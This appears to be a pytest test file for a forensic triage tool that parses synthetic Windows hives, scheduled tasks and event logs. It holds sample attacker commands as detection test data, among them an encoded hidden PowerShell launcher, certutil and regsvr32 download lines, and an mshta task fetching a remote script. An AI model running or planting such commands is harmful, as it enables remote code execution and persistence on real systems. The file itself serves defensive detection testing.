# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Records of a Windows system: registry and tasks on a disk, made by hivex and ntfs-3g. No system has written them.

Nothing but Windows writes event logs: of those, the ring of chunks is made here, and events are stand-ins for what
dissect.eventlog returns.
"""

from __future__ import annotations

import os
import random
import shutil
import struct
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.dfir.aws.plugins.module_utils.triage import windows, windows_events
from ansible_collections.dfir.aws.plugins.module_utils.triage.look import Triage
from ansible_collections.dfir.aws.plugins.module_utils.triage.windows_hives import Windows, filetime

from tests.unit.triage.triage_kit import stream, triage
from tests.unit.triage.windows_kit import empty_hive, hive, ntfs, raw

pytestmark = pytest.mark.slow
needs_hives = pytest.mark.skipif(
    os.geteuid() != 0 or not all(map(shutil.which, ("hivexsh", "mkntfs", "ntfs-3g"))) or not Path("/dev/fuse").exists(),
    reason="hivexsh (libhivex-bin) makes hives, ntfs-3g mounts what takes them, as root")
SECONDS = 1_757_635_200  # 2025-09-12 00:00 UTC
MOMENT = (SECONDS + 11_644_473_600) * 10**7
ENCODED = "powershell.exe -NoP -W Hidden -enc " + "SQBFAFgA" * 8
TASK = """<?xml version="1.0" encoding="UTF-16"?><Task><Actions><Exec><Command>{}</Command>
<Arguments>{}</Arguments></Exec></Actions></Task>"""
NT = r"Microsoft\Windows NT\CurrentVersion"
RUN = r"Microsoft\Windows\CurrentVersion\Run"
SOFTWARE = {
    NT: {"ProductName": "string:Windows Server 2022 Datacenter", "DisplayVersion": "string:21H2",
         "CurrentBuild": "string:20348", "UBR": "dword:0x07ef", "InstallDate": f"dword:{SECONDS}"},
    rf"{NT}\Winlogon": {"Shell": "string:explorer.exe, C:\\Users\\Public\\sh.exe",
                        "Userinit": "string:C:\\Windows\\system32\\userinit.exe,"},
    r"Microsoft\Cryptography": {"MachineGuid": "string:7c2e0f8a-0000-4000-8000-000000000001"},
    RUN: {"Agent": "string:\"C:\\Program Files\\Agent\\agent.exe\" /q", "Update": f"string:{ENCODED}"},
    r"Microsoft\Windows\CurrentVersion\Uninstall\Agent": {}, r"Microsoft\Windows\CurrentVersion\Uninstall\Tools": {},
}
SERVICES = r"ControlSet002\Services"
SYSTEM = {
    "Select": {"Current": "dword:0x0002"},
    r"ControlSet001\Control\ComputerName\ComputerName": {"ComputerName": "string:OLD"},
    r"ControlSet002\Control\ComputerName\ComputerName": {"ComputerName": "string:WEB-07"},
    r"ControlSet002\Control\TimeZoneInformation": {"TimeZoneKeyName": "string:W. Europe Standard Time"},
    r"ControlSet002\Control\Windows": {"ShutdownTime": raw(3, struct.pack("<Q", MOMENT))},
    rf"{SERVICES}\Tcpip\Parameters\Interfaces\{{1}}": {"DhcpIPAddress": "string:10.0.3.17"},
    rf"{SERVICES}\Dnscache": {"Start": "dword:0x0002", "ImagePath": "string:%SystemRoot%\\system32\\svchost.exe"},
    rf"{SERVICES}\Shop": {"Start": "dword:0x0002", "ImagePath": "string:C:\\Program Files\\Shop\\shop.exe"},
    rf"{SERVICES}\WinHelp": {"Start": "dword:0x0002", "ImagePath": "string:C:\\Users\\Public\\help.exe -s"},
}


def account(*, disabled: bool = False, last: int = 0, logins: int = 0) -> str:
    data = bytearray(80)
    struct.pack_into("<QQQ", data, 8, last, 0, MOMENT)
    struct.pack_into("<H", data, 56, 0x10 | disabled)
    struct.pack_into("<H", data, 66, logins)
    return raw(3, bytes(data))


def members(*numbers: int) -> str:
    sids = b"".join(struct.pack(">BB6s", 1, 5, b"\0\0\0\0\0\5") + struct.pack("<5I", 21, 1, 2, 3, number)
                    for number in numbers)
    head = bytearray(0x34)
    struct.pack_into("<III", head, 0x28, 0, len(sids), len(numbers))
    return raw(3, bytes(head) + sids)


USERS = r"SAM\Domains\Account\Users"
SAM = {
    rf"{USERS}\Names\Administrator": {"@": raw(500, b"")}, rf"{USERS}\Names\svc_help": {"@": raw(1003, b"")},
    rf"{USERS}\Names\Guest": {"@": raw(501, b"")},
    rf"{USERS}\000001F4": {"F": account(last=MOMENT, logins=7)}, rf"{USERS}\000003EB": {"F": account()},
    rf"{USERS}\000001F5": {"F": account(disabled=True)},
    r"SAM\Domains\Builtin\Aliases\00000220": {"C": members(500, 1003)},
}


@pytest.fixture(scope="module")
def disk(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("windows")
    config, tasks = "Windows/System32/config", "Windows/System32/Tasks"
    user = "Users/anna/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
    return ntfs(folder / "disk.img", {
        f"{config}/SOFTWARE": hive(folder / "SOFTWARE", SOFTWARE), f"{config}/SYSTEM": hive(folder / "SYSTEM", SYSTEM),
        f"{config}/SAM": hive(folder / "SAM", SAM),
        "Users/anna/NTUSER.DAT": hive(folder / "NTUSER.DAT", {
            rf"Software\{RUN}": {"Sync": "string:C:\\Users\\anna\\AppData\\Local\\Temp\\s.exe"}}),
        f"{user}/note.lnk": b"L", f"{user}/desktop.ini": b"",
        f"{tasks}/Nightly": TASK.format("C:\\Shop\\backup.exe", "--all &amp; quit").encode("utf-16"),
        f"{tasks}/Microsoft/Windows/Defrag": TASK.format("%windir%\\system32\\defrag.exe", "-c").encode("utf-16"),
        f"{tasks}/Microsoft/Windows/Sneaky": TASK.format("mshta.exe", "http://198.51.100.7/a.hta").encode("utf-16"),
    })


@pytest.fixture(scope="module")
def one(disk: Path) -> Triage:
    return triage(disk)


def rows(one: Triage, name: str) -> list[dict[str, Any]]:
    return next(found["rows"] for found in one.tables if found["id"] == name)


@needs_hives
def test_which_system_it_is(one: Triage) -> None:
    found = {fact["label"]: fact["value"] for fact in one.facts}
    assert found == {
        "System": "Windows Server 2022 Datacenter 21H2 (build 20348.2031)", "Host name": "WEB-07",
        "Machine id": "7c2e0f8a-0000-4000-8000-000000000001", "Time zone": "W. Europe Standard Time",
        "Installed": "2025-09-12T00:00:00Z", "Last shutdown": "2025-09-12T00:00:00Z", "Network": "10.0.3.17",
        "Accounts": "3, of which 2 are enabled", "Programs": "2"}
    assert any("unverified" in text for text in one.warnings) and one.not_read == []


@needs_hives
def test_who_has_an_account(one: Triage) -> None:
    assert [(row["name"], row["rid"], row["login"], row["admin"], row["last"], row["logins"])
            for row in rows(one, "accounts")] == [
        ("Administrator", 500, "yes", "yes", "2025-09-12T00:00:00Z", 7), ("svc_help", 1003, "yes", "yes", "", 0),
        ("Guest", 501, "no", "no", "", 0)]
    assert "Unverified" in next(found["note"] for found in one.tables if found["id"] == "accounts")


@needs_hives
def test_what_starts_by_itself_and_what_of_it_looks_wrong(one: Triage) -> None:
    table = {(row["kind"], row["path"].rpartition("/")[2]) for row in rows(one, "autostart")}
    assert {("run key", "Agent"), ("run key", "Update"), ("run key", "Sync"), ("service", "Shop"), ("task", "Nightly"),
            ("startup folder", "note.lnk"), ("logon", "Shell"), ("task", "Sneaky")} <= table
    assert not table & {("service", "Dnscache"), ("task", "Defrag"), ("logon", "Userinit"),
                        ("startup folder", "desktop.ini")}
    found = {(item["rule"], item["path"].rpartition("/")[2]): item for item in one.report()["findings"]
             if item["kind"] == "windows_start"}
    assert {key: item["severity"] for key, item in found.items()} == {
        ("windows_run_key", "Update"): "high", ("windows_run_key", "Sync"): "medium",
        ("windows_service", "WinHelp"): "medium", ("windows_task", "Sneaky"): "high",
        ("windows_logon", "Shell"): "medium"}
    key = found["windows_run_key", "Update"]
    assert key["path"].startswith("/Windows/System32/config/SOFTWARE: Microsoft/Windows/CurrentVersion/Run/")
    assert "unverified" in key["reason"] and ENCODED[:60] in key["excerpt"] and key["inode"]
    task = next(row for row in rows(one, "autostart") if row["path"].endswith("/Nightly"))
    assert task["what"] == "C:\\\\Shop\\\\backup.exe --all & quit"


@needs_hives
def test_damaged_hives_are_said_and_end_in_no_error(disk: Path, tmp_path: Path) -> None:
    chance = random.Random(4)
    whole = hive(tmp_path / "SOFTWARE", SOFTWARE)
    for _ in range(60):
        data = bytearray(whole)
        for _ in range(40):
            data[chance.randrange(4096, len(data))] = chance.randrange(256)
        (tmp_path / "SOFTWARE").write_bytes(data)

        class OneFile:
            def lookup(self, path: str) -> Any:
                return path if path.endswith("SOFTWARE") else None

            def open(self, _path: str) -> Any:
                return stream((tmp_path / "SOFTWARE").read_bytes())

            def entries(self, _path: str) -> list[Any]:
                return []

            def walk(self, _path: str) -> list[Any]:
                return []

        system = Windows(OneFile())  # type: ignore[arg-type]
        list(system.first_facts()), list(system.more_facts())
    image = ntfs(tmp_path / "d.img", {"Windows/System32/config/SOFTWARE": b"regf" + bytes(8000),
                                      "Windows/System32/config/SAM": empty_hive()})
    assert triage(image).not_read == ["p0: the hive /Windows/System32/config/SOFTWARE is damaged"]


@pytest.mark.parametrize(("command", "severity"), [
    (ENCODED, "high"), ("cmd /c certutil.exe -f -urlcache http://x/y z", "high"),
    (r"\\198.51.100.7\share\a.exe", "high"),
    ("regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "high"), (r"C:\ProgramData\a.exe", "medium"),
    (r'"C:\Users\anna\AppData\Local\Temp\x.exe"', "medium"), (r"C:\ProgramData\Vendor\agent.exe", None),
    (r"C:\Program Files\Vendor\agent.exe --template a", None), (r"\??\C:\Windows\system32\drivers\a.sys", None),
    (r"powershell.exe -File C:\Scripts\nightly.ps1 -Encoding utf8", None)])
def test_what_of_commands_looks_wrong(command: str, severity: str | None) -> None:
    found = windows.why(windows.Start("task", command, None))  # type: ignore[arg-type]
    assert (found[0] if found else None) == severity


def test_tasks_in_any_encoding_and_hostile_ones() -> None:
    text = TASK.format("a.exe", "&lt;b&gt;")
    for data in (text.encode("utf-16"), text.encode("utf-16-le"), text.encode()):
        assert windows.task(data) == "a.exe <b>"
    assert windows.task(b"") == windows.task(b"\xff\xfe\0") == windows.task(bytes(range(256))) == ""
    windows.task(b"<Exec><Command>" * 50_000)


def log(numbers: list[int], last: int) -> bytes:
    """A log whose chunks begin with records of these numbers; the head says which is the last."""
    head = b"ElfFile\0" + struct.pack("<QQ", 0, last)
    return head.ljust(windows_events.HEAD, b"\0") + b"".join(
        (b"ElfChnk\0" + struct.pack("<Q", number) if number else b"").ljust(windows_events.CHUNK, b"\0")
        for number in numbers)


@pytest.mark.parametrize(("numbers", "last", "order"), [
    ([1, 9, 20, 0], 2, [20, 9, 1]), ([1, 9, 20, 0], 1, [20, 9, 1]), ([30, 40, 10, 20], 1, [40, 30, 20, 10]),
    ([30, 40, 10, 20], 3, [40, 30, 20, 10]), ([0, 0], 0, []), ([], 7, [])])
def test_the_ring_of_chunks_is_read_from_its_newest(numbers: list[int], last: int, order: list[int]) -> None:
    data = log(numbers, last)
    assert [struct.unpack_from("<Q", chunk, 8)[0] for chunk in windows_events.chunks(stream(data), len(data))] == order
    assert list(windows_events.events(stream(data), len(data))) == []  # chunks without events end in no error


def event(number: int, moment: str, user: str = "", source: str = "-", kind: int = 10) -> dict[str, Any]:
    """As dissect.eventlog returns one."""
    return {"EventID": number, "TimeCreated_SystemTime": f"{moment}.123456+00:00", "TargetUserName": user,
            "IpAddress": source, "LogonType": kind, "SubjectUserName": "mallory"}


def test_who_logged_on_and_who_could_not() -> None:
    found = windows_events.Logons([
        event(1102, "2026-09-12 03:00:00"), event(4624, "2026-09-12 02:00:00", "anna", "203.0.113.9"),
        event(4624, "2026-09-12 01:59:00", "WEB-07$", "203.0.113.9", 3), event(4624, "2026-09-12 01:58:00", "SYSTEM"),
        event(4624, "2026-09-12 01:57:00", "DWM-1", kind=2), event(4624, "2026-09-12 01:56:00", "anna", kind=2),
        *(event(4625, f"2026-09-12 01:00:{number:02d}", "anna", "203.0.113.9", 3) for number in range(30, 0, -1))])
    sessions, failures = found.tables()
    assert [(row["user"], row["line"], row["source"], row["start"]) for row in sessions["rows"]] == [
        ("anna", "remote desktop", "203.0.113.9", "2026-09-12T02:00:00Z"),
        ("anna", "console", "", "2026-09-12T01:56:00Z")]
    assert failures["rows"] == [
        {"source": "203.0.113.9", "count": 30, "last": "2026-09-12T01:00:30Z", "users": "anna"}]
    assert "Unverified" in sessions["note"] and found.oldest == "2026-09-12T01:00:01Z"
    assert found.cleared == [("2026-09-12T03:00:00Z", "mallory")]


def test_times_of_windows() -> None:
    assert filetime(MOMENT) == "2025-09-12T00:00:00Z" and filetime(0) == "" == filetime(0x7FFFFFFFFFFFFFFF)
